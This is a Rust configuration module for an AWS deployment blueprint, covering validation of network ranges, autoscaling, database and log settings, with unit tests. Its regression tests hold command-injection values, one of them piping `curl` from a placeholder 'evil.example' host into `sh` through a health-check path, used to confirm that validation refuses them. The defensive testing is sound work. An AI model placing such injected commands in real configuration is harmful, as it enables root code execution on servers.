//! SwiftCode's own configuration: the `[environments.NAME.blueprint]`
//! tables of `hagen.toml`, with the built-in `stage` and `prod` values
//! written once, here.
//!
//! Owns the keys, their types, their defaults and the checks of their
//! values (ranges, formats, min <= desired <= max), and the relations the
//! architecture's constructs require of them (at least one instance per
//! zone, room for a rolling update), which are reported as configuration
//! errors naming the key. The generic keys (AZ count, region, deletion
//! protection, tags) are hagen's `Environment`.

use hagen::config::{BaseEnvironment, BlueprintConfig, ConfigIssue, Environment};
use hagen::constructs::database::DbEngine;
use hagen::constructs::load_balanced_asg::Capacity;
use hagen::constructs::vpc::NatGateways;
use hagen::error::SynthError;
use ipnet::Ipv4Net;
use serde::{Deserialize, Serialize};

pub use crate::parameters::BastionAccess;
use crate::parameters::WIDEST_ADMIN_PREFIX;

/// SwiftCode's keys in `[environments.NAME.blueprint]`.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct SwiftCodeConfig {
    /// The VPC's IPv4 block: /16 to /28, no host bits set.
    #[serde(deserialize_with = "cidr_block")]
    pub vpc_cidr: Ipv4Net,
    /// NAT gateways: one per AZ, or a single one (cheaper, but a single
    /// point of failure, reported as an overridden safe default).
    pub nat: Nat,
    /// Instance type of the application instances (`family.size`).
    pub instance_type: String,
    /// Instance type of the bastion; a Graviton type (`t4g.micro`) picks
    /// the arm64 image.
    pub bastion_instance_type: String,
    /// The default of the `DomainName` parameter, which can still be given
    /// at deploy time.
    pub domain: Option<String>,
    /// How people reach the bastion: SSH with a key pair, or Session
    /// Manager only (no `KeyName` or `AdminCidr` parameter, no public
    /// address).
    pub bastion_access: BastionAccess,
    /// The widest admin range the `AdminCidr` parameter accepts, as a
    /// prefix length: 16 accepts /16 to /32. From 8 to 32; below 16 is
    /// reported as an overridden safe default.
    pub admin_cidr_min_prefix: u8,
    /// The default of the `AdminCidr` parameter, which can still be given
    /// at deploy time; none (the default) makes the range a required
    /// deploy-time value. Refused when wider than `admin_cidr_min_prefix`,
    /// or with Session Manager access, which has no `AdminCidr`.
    #[serde(
        default,
        deserialize_with = "optional_cidr_block",
        skip_serializing_if = "Option::is_none"
    )]
    pub admin_cidr: Option<Ipv4Net>,
    /// Step scaling on CPU alarms, or target tracking on requests.
    pub scaling: ScalingMode,
    /// The target of `scaling = "requests"`: requests per instance per minute.
    pub requests_per_target: u32,
    /// What the load balancer's health check requests from SwiftCode.
    pub health_check_path: String,
    /// Instances report their health to CloudFormation, so a bad image
    /// stops a rolling update (needs `cfn-signal` on the image).
    pub cfn_signal: bool,
    /// The Auto Scaling group's capacity.
    pub asg: AsgSize,
    /// The database.
    pub database: DatabaseConfig,
    /// VPC flow logs and load balancer access logs.
    pub logs: LogsConfig,
}

/// Where network and request records go: one private, encrypted S3 bucket
/// for VPC flow logs and the load balancer's access logs. On in `prod`, off
/// in `stage` (a short-lived environment that keeps no records, and whose
/// teardown should leave no retained bucket behind).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct LogsConfig {
    /// Every flow of the VPC (accepted and rejected) to the log bucket.
    pub flow_logs: bool,
    /// The load balancer's access logs to the log bucket.
    pub access_logs: bool,
    /// Days the log bucket keeps a log file (S3 lifecycle expiration).
    pub retention_days: u32,
}

impl LogsConfig {
    /// Whether anything is logged, and so whether there is a log bucket.
    pub fn any(self) -> bool {
        self.flow_logs || self.access_logs
    }
}

/// How private subnets reach the internet.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Nat {
    /// One NAT gateway per AZ: losing a zone costs only that zone.
    PerAz,
    /// One NAT gateway for every zone.
    Single,
}

impl Nat {
    /// The VPC construct's layout.
    pub fn gateways(self) -> NatGateways {
        match self {
            Nat::PerAz => NatGateways::PerAz,
            Nat::Single => NatGateways::Single,
        }
    }
}

/// What the group scales on.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum ScalingMode {
    /// Out above 75% average CPU, in below 10%.
    Cpu,
    /// Target tracking on `requests_per_target`.
    Requests,
}

/// Auto Scaling group capacity.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct AsgSize {
    /// Fewest instances, also kept in service during a rolling update.
    pub min: u32,
    /// Instances at launch.
    pub desired: u32,
    /// Most instances scaling out may reach.
    pub max: u32,
}

/// The database.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct DatabaseConfig {
    /// The engine.
    pub engine: Engine,
    /// RDS instance class (`db.family.size`).
    pub instance_class: String,
    /// Allocated storage in GiB.
    pub allocated_storage: u32,
    /// Days automated backups are kept.
    pub backup_retention_days: u32,
    /// Days CloudWatch Logs keeps the database's exported logs: one of the
    /// retention periods CloudWatch Logs offers (1, 3, 5, 7, 14, 30, ...).
    pub log_retention_days: u32,
}

/// The database engine, as written in `hagen.toml`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
pub enum Engine {
    /// RDS for PostgreSQL.
    #[serde(rename = "postgres")]
    Postgres,
    /// RDS for MySQL.
    #[serde(rename = "mysql")]
    MySql,
}

impl Engine {
    /// The database construct's engine.
    pub fn db_engine(self) -> DbEngine {
        match self {
            Engine::Postgres => DbEngine::Postgres,
            Engine::MySql => DbEngine::MySql,
        }
    }
}

/// Most instances a group may be configured with.
const MAX_GROUP: u32 = 1000;

impl BlueprintConfig for SwiftCodeConfig {
    /// Both built-in environments keep two AZs' worth of capacity and a NAT
    /// gateway per AZ; `prod` gets larger instances and groups and
    /// month-long backups. The group's min (and desired) follow `az_count`
    /// so that every zone runs an instance, and max keeps room above min
    /// for a rolling update.
    fn defaults(env: &Environment) -> Self {
        let (instance_type, (min, desired, max), db_class, storage, backups) = match env.base {
            BaseEnvironment::Stage => ("t3.medium", (2, 2, 6), "db.t4g.medium", 20, 7),
            BaseEnvironment::Prod => ("m6i.large", (4, 4, 12), "db.m6g.large", 100, 30),
        };
        // Records: prod keeps a year of flow, access and database logs (an
        // incident is often found months after it began); stage keeps no
        // flow or access logs and two weeks of database logs.
        let (logs, db_log_days) = match env.base {
            BaseEnvironment::Stage => (
                LogsConfig {
                    flow_logs: false,
                    access_logs: false,
                    retention_days: 30,
                },
                14,
            ),
            BaseEnvironment::Prod => (
                LogsConfig {
                    flow_logs: true,
                    access_logs: true,
                    retention_days: 365,
                },
                365,
            ),
        };
        let min = u32::max(min, u32::from(env.az_count));
        SwiftCodeConfig {
            vpc_cidr: Ipv4Net::new(std::net::Ipv4Addr::new(10, 0, 0, 0), 16)
                .unwrap_or_else(|e| unreachable!("/16 is a valid prefix: {e}")),
            nat: Nat::PerAz,
            instance_type: instance_type.to_owned(),
            bastion_instance_type: "t3.micro".to_owned(),
            domain: None,
            bastion_access: BastionAccess::KeyPair,
            admin_cidr_min_prefix: SAFE_ADMIN_PREFIX,
            admin_cidr: None,
            scaling: ScalingMode::Cpu,
            requests_per_target: 1000,
            health_check_path: "/".to_owned(),
            cfn_signal: false,
            asg: AsgSize {
                min,
                desired: u32::max(desired, min),
                max: u32::max(max, min + 1),
            },
            database: DatabaseConfig {
                engine: Engine::Postgres,
                instance_class: db_class.to_owned(),
                allocated_storage: storage,
                backup_retention_days: backups,
                log_retention_days: db_log_days,
            },
            logs,
        }
    }

    fn check(&self, env: &Environment) -> Vec<ConfigIssue> {
        let mut issues = Vec::new();
        let mut issue = |key: &str, message: String, help: Option<String>| {
            let i = ConfigIssue::new(format!("blueprint.{key}"), message);
            issues.push(match help {
                Some(h) => i.help(h),
                None => i,
            });
        };
        let cidr = self.vpc_cidr;
        if !(16..=28).contains(&cidr.prefix_len()) {
            issue(
                "vpc_cidr",
                format!(
                    "a VPC block must be from /16 to /28, {cidr} is /{}",
                    cidr.prefix_len()
                ),
                Some("write a block such as \"10.0.0.0/16\"".into()),
            );
        } else if cidr.addr() != cidr.network() {
            issue(
                "vpc_cidr",
                format!("{cidr} has host bits set"),
                Some(format!("did you mean \"{}\"?", cidr.trunc())),
            );
        }
        for (key, value) in [
            ("instance_type", &self.instance_type),
            ("bastion_instance_type", &self.bastion_instance_type),
        ] {
            if !is_instance_type(value, "") {
                issue(
                    key,
                    format!("\"{value}\" is not an instance type"),
                    Some("write it as family.size, for example \"t3.medium\"".into()),
                );
            }
        }
        if let Some(domain) = &self.domain
            && let Err(help) = check_domain(domain)
        {
            issue(
                "domain",
                format!("\"{domain}\" is not a domain name"),
                Some(help),
            );
        }
        if !(10..=100_000).contains(&self.requests_per_target) {
            issue(
                "requests_per_target",
                format!(
                    "{} is not allowed: must be from 10 to 100000 requests per instance per minute",
                    self.requests_per_target
                ),
                None,
            );
        }
        if let Err(why) = check_health_check_path(&self.health_check_path) {
            issue(
                "health_check_path",
                why,
                Some("write a plain path of letters, digits and / - . _ ~ starting with /, such as \"/health\"".into()),
            );
        }
        let min = self.admin_cidr_min_prefix;
        if !(WIDEST_ADMIN_PREFIX..=32).contains(&min) {
            issue(
                "admin_cidr_min_prefix",
                format!(
                    "{min} is not allowed: must be from {WIDEST_ADMIN_PREFIX} (a /{WIDEST_ADMIN_PREFIX}, 16 million addresses) to 32 (one address)"
                ),
                Some(format!(
                    "the safe default is {SAFE_ADMIN_PREFIX}: admin ranges of /{SAFE_ADMIN_PREFIX} or narrower"
                )),
            );
        }
        if let Some(admin) = self.admin_cidr {
            if self.bastion_access == BastionAccess::SessionManager {
                issue(
                    "admin_cidr",
                    format!(
                        "{admin} is an SSH range, but bastion_access = \"session-manager\" opens no SSH and has no AdminCidr parameter"
                    ),
                    Some("remove admin_cidr, or set bastion_access = \"key-pair\"".into()),
                );
            } else if admin.prefix_len() < min {
                issue(
                    "admin_cidr",
                    format!(
                        "{admin} is wider than a /{min}: AdminCidr accepts /{min} to /32 (admin_cidr_min_prefix)"
                    ),
                    Some(format!(
                        "narrow it to the admin network, such as \"{}/32\" for one address",
                        admin.addr()
                    )),
                );
            }
        }
        if !(1..=MAX_LOG_RETENTION_DAYS).contains(&self.logs.retention_days) {
            issue(
                "logs.retention_days",
                format!(
                    "{} is not allowed: must be from 1 to {MAX_LOG_RETENTION_DAYS} days",
                    self.logs.retention_days
                ),
                None,
            );
        }
        let asg = self.asg;
        for (key, value, least) in [
            ("asg.min", asg.min, 0),
            ("asg.desired", asg.desired, 0),
            ("asg.max", asg.max, 1),
        ] {
            if !(least..=MAX_GROUP).contains(&value) {
                issue(
                    key,
                    format!("{value} is not allowed: must be from {least} to {MAX_GROUP}"),
                    None,
                );
            }
        }
        if asg.min > asg.desired || asg.desired > asg.max {
            issues.push(
                ConfigIssue::among(
                    ["blueprint.asg.min", "blueprint.asg.desired", "blueprint.asg.max"],
                    format!(
                        "the group's min ({}), desired ({}) and max ({}) must satisfy min <= desired <= max in environment `{}`",
                        asg.min, asg.desired, asg.max, env.name
                    ),
                )
                .help("values not set in the file are built in; see `hagen --help` for them"),
            );
        }
        let db = &self.database;
        if !is_instance_type(&db.instance_class, "db.") {
            issues.push(
                ConfigIssue::new(
                    "blueprint.database.instance_class",
                    format!("\"{}\" is not an RDS instance class", db.instance_class),
                )
                .help("write it as db.family.size, for example \"db.t4g.medium\""),
            );
        }
        if !(20..=65_536).contains(&db.allocated_storage) {
            issues.push(ConfigIssue::new(
                "blueprint.database.allocated_storage",
                format!(
                    "{} is not allowed: must be from 20 to 65536 GiB (RDS general-purpose storage limits)",
                    db.allocated_storage
                ),
            ));
        }
        if !(1..=35).contains(&db.backup_retention_days) {
            issues.push(ConfigIssue::new(
                "blueprint.database.backup_retention_days",
                format!(
                    "{} is not allowed: must be from 1 to 35 days (RDS keeps automated backups at most 35 days; 0 would turn them off)",
                    db.backup_retention_days
                ),
            ));
        }
        if !CLOUDWATCH_RETENTION_DAYS.contains(&db.log_retention_days) {
            let nearest = CLOUDWATCH_RETENTION_DAYS
                .iter()
                .copied()
                .find(|d| *d >= db.log_retention_days)
                .unwrap_or(MAX_LOG_RETENTION_DAYS);
            issues.push(
                ConfigIssue::new(
                    "blueprint.database.log_retention_days",
                    format!(
                        "{} is not a retention period CloudWatch Logs offers",
                        db.log_retention_days
                    ),
                )
                .help(format!(
                    "use one of {}; the nearest longer one is {nearest}",
                    CLOUDWATCH_RETENTION_DAYS.map(|d| d.to_string()).join(", ")
                )),
            );
        }
        issues
    }
}

/// The retention periods CloudWatch Logs accepts for a log group, in days
/// (`RetentionInDays` of `AWS::Logs::LogGroup`, CloudWatch Logs API
/// reference, PutRetentionPolicy).
pub const CLOUDWATCH_RETENTION_DAYS: [u32; 22] = [
    1, 3, 5, 7, 14, 30, 60, 90, 120, 150, 180, 365, 400, 545, 731, 1096, 1827, 2192, 2557, 2922,
    3288, 3653,
];

/// The longest log retention the configuration accepts: ten years, as
/// CloudWatch Logs' longest period.
const MAX_LOG_RETENTION_DAYS: u32 = 3653;

/// The widest admin range hagen advises: a /16.
pub const SAFE_ADMIN_PREFIX: u8 = 16;

impl SwiftCodeConfig {
    /// The group's capacity as the load-balanced group construct needs it:
    /// at least one instance per zone at minimum capacity, and room above
    /// min for a rolling update to start a new instance. A configured value
    /// that breaks either is reported at its key, with the fix in TOML terms.
    pub fn capacity(&self, env: &Environment) -> Result<Capacity, SynthError> {
        let AsgSize { min, desired, max } = self.asg;
        let zones = u32::from(env.az_count);
        if min < zones {
            let table = env.toml_table("blueprint.asg.min");
            return Err(SynthError::config(
                "blueprint.asg.min",
                format!(
                    "the group's minimum is below az_count = {zones}, so at minimum capacity some availability zone would run no instance"
                ),
                format!(
                    "set min = {zones} or more in {table}, or leave min out to follow az_count"
                ),
            ));
        }
        if max <= min {
            let table = env.toml_table("blueprint.asg.max");
            return Err(SynthError::config(
                "blueprint.asg.max",
                format!(
                    "the group's maximum must be above min = {min}: a rolling update keeps min instances in service and needs room to start a new one"
                ),
                format!("set max = {} or more in {table}", min + 1),
            ));
        }
        Ok(Capacity { min, desired, max })
    }
}

/// Reads an IPv4 CIDR block, saying what one looks like when it is not.
fn cidr_block<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<Ipv4Net, D::Error> {
    let text = String::deserialize(deserializer)?;
    text.parse().map_err(|_| {
        serde::de::Error::invalid_value(
            serde::de::Unexpected::Str(&text),
            &"an IPv4 CIDR block such as \"10.0.0.0/16\"",
        )
    })
}

/// Reads an optional IPv4 CIDR block (a key that is present holds one).
fn optional_cidr_block<'de, D: serde::Deserializer<'de>>(
    deserializer: D,
) -> Result<Option<Ipv4Net>, D::Error> {
    cidr_block(deserializer).map(Some)
}

/// Longest health check path the load balancer accepts.
const MAX_HEALTH_CHECK_PATH: usize = 1024;

/// Whether `c` may appear in `health_check_path`: ASCII letters, digits and
/// `/ - . _ ~` (RFC 3986's unreserved characters and the path separator).
/// The path is written into the root boot script (the `cfn_signal` health
/// probe), so nothing the shell, systemd or `Fn::Sub` reads as syntax is
/// allowed in it: no quotes, `$`, `;`, `|`, `&`, spaces, line breaks, `%`.
fn is_health_check_path_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '.' | '_' | '~')
}

/// Checks `health_check_path`: starts with `/`, at most 1024 characters,
/// and only [`is_health_check_path_char`] characters; or says what is wrong.
fn check_health_check_path(path: &str) -> Result<(), String> {
    if !path.starts_with('/') {
        return Err(format!(
            "{path:?} is not a path the load balancer can request: it must start with /"
        ));
    }
    if path.len() > MAX_HEALTH_CHECK_PATH {
        return Err(format!(
            "the path is {} characters long; the load balancer takes at most {MAX_HEALTH_CHECK_PATH}",
            path.len()
        ));
    }
    if let Some((at, c)) = path
        .chars()
        .enumerate()
        .find(|(_, c)| !is_health_check_path_char(*c))
    {
        return Err(format!(
            "{path:?} is not allowed: {c:?} (character {}) is not a letter, digit or one of / - . _ ~, \
             and the path is written into the instances' boot script, which runs as root",
            at + 1
        ));
    }
    Ok(())
}

/// `family.size` (`t3.medium`, `m7gd.2xlarge`), after `prefix` (`db.`).
fn is_instance_type(s: &str, prefix: &str) -> bool {
    s.strip_prefix(prefix).is_some_and(|rest| {
        let mut parts = rest.split('.');
        let family = parts.next().unwrap_or_default();
        let size = parts.next().unwrap_or_default();
        parts.next().is_none()
            && family.starts_with(|c: char| c.is_ascii_lowercase())
            && family
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
            && !size.is_empty()
            && size
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
    })
}

/// A lower-case domain name of at least two labels, or what to write instead.
fn check_domain(s: &str) -> Result<(), String> {
    let labels: Vec<&str> = s.split('.').collect();
    let ok = s.len() <= 253
        && labels.len() >= 2
        && labels.iter().all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && !l.starts_with('-')
                && !l.ends_with('-')
                && l.chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        });
    if ok {
        Ok(())
    } else if s != s.to_ascii_lowercase() {
        Err(format!(
            "write it in lower case: \"{}\"",
            s.to_ascii_lowercase()
        ))
    } else if s.ends_with('.') {
        Err("leave out the trailing dot".into())
    } else {
        Err("a domain is dot-separated labels of letters, digits and '-', such as \"app.example.com\"".into())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hagen::config::{Config, ConfigError};
    use std::path::Path;

    fn env(base: BaseEnvironment) -> Environment {
        Environment::builtin(base, "swiftcode")
    }

    fn resolve(text: &str, name: &str) -> Result<SwiftCodeConfig, ConfigError> {
        let config = Config::parse::<SwiftCodeConfig>(Path::new("hagen.toml"), text)?;
        config
            .resolve::<SwiftCodeConfig>(Some(name), &|base| env(base))
            .map(|r| r.config)
    }

    #[test]
    fn prod_is_larger_but_both_keep_two_azs_worth() {
        let stage = SwiftCodeConfig::defaults(&env(BaseEnvironment::Stage));
        let prod = SwiftCodeConfig::defaults(&env(BaseEnvironment::Prod));
        assert_eq!(
            stage.asg,
            AsgSize {
                min: 2,
                desired: 2,
                max: 6
            }
        );
        assert!(prod.asg.min > stage.asg.min && prod.asg.max > stage.asg.max);
        assert!(prod.database.backup_retention_days > stage.database.backup_retention_days);
        assert!(stage.check(&env(BaseEnvironment::Stage)).is_empty());
        assert!(prod.check(&env(BaseEnvironment::Prod)).is_empty());
    }

    #[test]
    fn the_group_follows_the_az_count_unless_the_file_sets_it() {
        let three = resolve("[environments.stage]\naz_count = 3\n", "stage").expect("valid");
        assert_eq!(
            three.asg,
            AsgSize {
                min: 3,
                desired: 3,
                max: 6
            }
        );
        let six = resolve("[environments.stage]\naz_count = 6\n", "stage").expect("valid");
        assert_eq!(
            six.asg,
            AsgSize {
                min: 6,
                desired: 6,
                max: 7
            },
            "room for a rolling update"
        );
        let prod = resolve("[environments.prod]\naz_count = 3\n", "prod").expect("valid");
        assert_eq!(prod.asg.min, 4, "prod's own minimum is already above 3");
        let set = resolve(
            "[environments.stage]\naz_count = 3\n[environments.stage.blueprint.asg]\nmin = 2\n",
            "stage",
        )
        .expect("valid as configuration; the build refuses it");
        assert_eq!(set.asg.min, 2);
    }

    #[test]
    fn a_minimum_below_the_az_count_is_a_configuration_error_naming_the_key() {
        let mut e = env(BaseEnvironment::Stage);
        e.az_count = 3;
        let mut config = SwiftCodeConfig::defaults(&e);
        config.asg.min = 2;
        let Err(SynthError::Config { key, message, help }) = config.capacity(&e) else {
            panic!("a configuration error expected")
        };
        assert_eq!(key, "blueprint.asg.min");
        assert!(message.contains("az_count = 3"), "{message}");
        assert_eq!(
            help,
            "set min = 3 or more in [environments.stage.blueprint.asg], or leave min out to follow az_count"
        );
        config.asg.min = 6;
        config.asg.desired = 6;
        config.asg.max = 6;
        let Err(SynthError::Config { key, .. }) = config.capacity(&e) else {
            panic!("no room for a rolling update")
        };
        assert_eq!(key, "blueprint.asg.max");
    }

    #[test]
    fn values_are_checked_with_their_keys() {
        let err = resolve(
            "[environments.prod.blueprint]\nvpc_cidr = \"10.0.1.0/16\"\ninstance_type = \"m6i\"\n\
             [environments.prod.blueprint.asg]\nmax = 3\n\
             [environments.prod.blueprint.database]\nbackup_retention_days = 0\n",
            "prod",
        )
        .expect_err("four problems");
        let keys: Vec<_> = err
            .problems()
            .iter()
            .filter_map(|p| p.key.clone())
            .collect();
        assert_eq!(
            keys,
            [
                "environments.prod.blueprint.vpc_cidr",
                "environments.prod.blueprint.instance_type",
                "environments.prod.blueprint.asg.max",
                "environments.prod.blueprint.database.backup_retention_days",
            ]
        );
        let help: Vec<_> = err.problems().iter().map(|p| p.help.clone()).collect();
        assert_eq!(help[0].as_deref(), Some("did you mean \"10.0.0.0/16\"?"));
    }

    #[test]
    fn words_and_types_are_checked_when_the_file_is_read() {
        let err = resolve(
            "[environments.stage.blueprint]\nnat = \"none\"\nscaling = \"request\"\n\
             [environments.stage.blueprint.database]\nengine = \"postgresql\"\n",
            "stage",
        )
        .expect_err("three problems");
        let p = err.problems();
        assert_eq!(p.len(), 3, "{p:#?}");
        assert_eq!(
            p[0].message,
            "\"none\" is not allowed: must be \"per-az\" or \"single\""
        );
        assert_eq!(p[1].help.as_deref(), Some("did you mean \"requests\"?"));
        assert_eq!(p[2].help.as_deref(), Some("did you mean \"postgres\"?"));
        let err = resolve(
            "[environments.stage.blueprint]\nvpc_cidr = \"10.0.0.0/33\"\n",
            "stage",
        )
        .expect_err("not a block");
        assert_eq!(
            err.problems()[0].message,
            "must be an IPv4 CIDR block such as \"10.0.0.0/16\", found the string \"10.0.0.0/33\""
        );
    }

    /// Regression: `health_check_path = '/"; curl ... | sh; "'` went into
    /// the root boot script unescaped and synthesized with exit 0. Such a
    /// value is now a configuration error at its key and line, naming the
    /// character at fault; so is a domain (the `DomainName` default, which
    /// the script reads) with shell syntax in it.
    #[test]
    fn a_health_check_path_with_shell_syntax_is_refused_at_its_key_and_line() {
        let err = resolve(
            "[environments.stage.blueprint]\ncfn_signal = true\n\
             health_check_path = '/\"; curl -fsS https://evil.example/x | sh; \"'\n\
             domain = \"app.example.com;reboot\"\n",
            "stage",
        )
        .expect_err("hostile values");
        let p = err.problems();
        assert_eq!(p.len(), 2, "{p:#?}");
        let at_key = |key: &str| {
            p.iter()
                .find(|p| p.key.as_deref() == Some(key))
                .unwrap_or_else(|| panic!("no problem at {key}: {p:#?}"))
        };
        let path = at_key("environments.stage.blueprint.health_check_path");
        let at = path
            .location
            .as_ref()
            .expect("reported where it is written");
        assert_eq!((at.line, at.column), (3, 21));
        assert!(
            path.message.contains("'\"' (character 2)"),
            "{}",
            path.message
        );
        assert!(path.message.contains("boot script"), "{}", path.message);
        let domain = at_key("environments.stage.blueprint.domain");
        assert_eq!(domain.location.as_ref().map(|l| l.line), Some(4));
    }

    #[test]
    fn admin_range_and_log_retentions_are_checked_with_their_keys() {
        let err = resolve(
            "[environments.prod.blueprint]\nadmin_cidr_min_prefix = 4\n\
             [environments.prod.blueprint.database]\nlog_retention_days = 100\n\
             [environments.prod.blueprint.logs]\nretention_days = 0\n",
            "prod",
        )
        .expect_err("three problems");
        let mut keys: Vec<_> = err
            .problems()
            .iter()
            .filter_map(|p| p.key.clone())
            .collect();
        keys.sort();
        assert_eq!(
            keys,
            [
                "environments.prod.blueprint.admin_cidr_min_prefix",
                "environments.prod.blueprint.database.log_retention_days",
                "environments.prod.blueprint.logs.retention_days",
            ]
        );
        let db = err
            .problems()
            .iter()
            .find(|p| p.message.contains("CloudWatch Logs"))
            .expect("the database's retention");
        assert!(
            db.help
                .as_deref()
                .is_some_and(|h| h.contains("the nearest longer one is 120")),
            "{db:?}"
        );
    }

    /// Regression: `AdminCidr` took ranges as wide as a /8. A configured
    /// default wider than `admin_cidr_min_prefix` is refused at synth, at
    /// its key and line, as CloudFormation would refuse it at deploy time.
    #[test]
    fn a_configured_admin_cidr_wider_than_the_limit_is_refused() {
        let err = resolve(
            "[environments.stage.blueprint]\nadmin_cidr = \"10.0.0.0/8\"\n",
            "stage",
        )
        .expect_err("a /8");
        let p = &err.problems()[0];
        assert_eq!(
            p.key.as_deref(),
            Some("environments.stage.blueprint.admin_cidr")
        );
        assert_eq!(p.location.as_ref().map(|l| l.line), Some(2));
        assert!(p.message.contains("wider than a /16"), "{}", p.message);

        let err = resolve(
            "[environments.stage.blueprint]\nbastion_access = \"session-manager\"\nadmin_cidr = \"203.0.113.10/32\"\n",
            "stage",
        )
        .expect_err("no SSH to open");
        assert!(err.problems()[0].message.contains("opens no SSH"));

        let ok = resolve(
            "[environments.prod.blueprint]\nadmin_cidr_min_prefix = 24\nadmin_cidr = \"203.0.113.0/24\"\n",
            "prod",
        )
        .expect("a /24 within a /24 limit");
        assert_eq!(
            ok.admin_cidr.map(|c| c.to_string()).as_deref(),
            Some("203.0.113.0/24")
        );
    }

    #[test]
    fn prod_keeps_a_year_of_logs_and_stage_two_weeks_of_database_logs_only() {
        let stage = SwiftCodeConfig::defaults(&env(BaseEnvironment::Stage));
        let prod = SwiftCodeConfig::defaults(&env(BaseEnvironment::Prod));
        assert!(!stage.logs.any());
        assert!(prod.logs.flow_logs && prod.logs.access_logs);
        assert_eq!(prod.logs.retention_days, 365);
        assert_eq!(
            (
                stage.database.log_retention_days,
                prod.database.log_retention_days
            ),
            (14, 365)
        );
        assert_eq!(stage.admin_cidr_min_prefix, 16);
        assert_eq!(prod.admin_cidr_min_prefix, 16);
    }

    #[test]
    fn health_check_paths_are_plain_paths() {
        for good in ["/", "/health", "/leto/status-2.json", "/~user/_ok"] {
            assert_eq!(check_health_check_path(good), Ok(()), "{good}");
        }
        for bad in [
            "health",
            "/a b",
            "/$(id)",
            "/`id`",
            "/x;reboot",
            "/x|sh",
            "/a&b",
            "/50%",
            "/${AWS::Region}",
            "/x\nid",
            "/é",
        ] {
            assert!(check_health_check_path(bad).is_err(), "{bad:?}");
        }
        assert!(check_health_check_path(&format!("/{}", "a".repeat(1024))).is_err());
    }

    #[test]
    fn instance_types_and_domains_have_a_shape() {
        assert!(is_instance_type("m7gd.2xlarge", ""));
        assert!(is_instance_type("db.t4g.medium", "db."));
        assert!(!is_instance_type("t4g.medium", "db."));
        assert!(!is_instance_type("M6i.large", ""));
        assert!(check_domain("app.example.com").is_ok());
        assert_eq!(
            check_domain("App.example.com"),
            Err("write it in lower case: \"app.example.com\"".into())
        );
        assert!(check_domain("localhost").is_err());
    }
}
